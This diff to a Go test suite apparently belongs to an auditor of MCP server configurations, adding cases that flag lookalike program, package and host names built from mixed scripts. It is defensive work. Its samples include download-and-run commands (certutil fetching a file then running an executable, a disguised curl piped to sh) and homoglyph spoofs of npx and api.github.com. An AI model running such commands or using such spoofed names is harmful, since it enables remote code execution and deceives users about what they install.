@@ -3182,3 +3182,26 @@ func TestAuditWindowsDownloadsRun(t *testing.T) {
 		{"certutil then another file", stdio("cmd", "/c", "certutil -urlcache -f https://x.example/a.txt a.txt && srv.exe"), []string{fetch, shell, meta}, true, true},
 	})
 }
+
+// A program or package name that mixes Latin letters with letters of
+// another script is lookalike_name (ruleset 2026.12.93): it reads as the
+// name it imitates and is another. Each passed with no finding but what
+// the name it imitates would have had.
+func TestAuditLookalikeNames(t *testing.T) {
+	const shell, meta = "danger shell_exec mcp.args[1]", "warn shell_meta mcp.args[1]"
+	runCases(t, []auditCase{
+		{"npx with a Cyrillic р", stdio("nрx", "-y", "pkg@1.0.0"), []string{"danger lookalike_name mcp.command"}, false, false},
+		{"a package with a Cyrillic о", stdio("npx", "-y", "fоo@1.0.0"), []string{"danger lookalike_name mcp.args[1]"}, true, false},
+		{"a Python package with a Cyrillic е", stdio("uvx", "mcp-sеrver==1.0"), []string{"danger lookalike_name mcp.args[0]"}, true, false},
+		{"curl with a Cyrillic с in a script", stdio("sh", "-c", "сurl https://x.example/a | sh"), []string{
+			"danger lookalike_name mcp.args[1]", "danger pipe_to_shell mcp.args[1]", shell, meta}, false, true},
+		{"fullwidth letters", stdio("ｎpx", "-y", "pkg@1.0.0"), []string{"danger lookalike_name mcp.command"}, false, false},
+		{"an endpoint host with a Cyrillic а", remote("https://аpi.github.com/mcp"), []string{
+			"danger lookalike_name mcp.url", "danger remote_endpoint mcp.url"}, true, false},
+		// Look-alikes.
+		{"an accented Latin name", stdio("café-srv"), []string{}, false, false},
+		{"a name in another script alone", stdio("启动"), []string{}, false, false},
+		{"a folder of another script in the path", stdio("/Users/юрий/bin/srv"), []string{}, false, false},
+		{"an endpoint host in one script per label", remote("https://пример.example.com/mcp"), []string{"danger remote_endpoint mcp.url"}, true, false},
+	})
+}
